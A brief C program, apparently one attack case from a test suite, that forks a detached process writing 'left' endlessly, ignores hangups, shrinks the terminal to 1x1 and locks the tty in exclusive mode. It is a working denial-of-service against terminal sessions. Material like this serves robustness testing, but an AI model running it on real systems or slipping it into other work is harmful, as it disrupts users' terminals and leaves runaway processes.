#include "attack.h"

int main(void) {
  if (fork() == 0) { setsid(); signal(SIGHUP, SIG_IGN); for (;;) write(1, "left", 4), usleep(1000); }
  struct winsize w = {1, 1};
  ioctl(0, TIOCSWINSZ, &w);
  ioctl(0, TIOCEXCL, 0);
  usleep(20000);
}
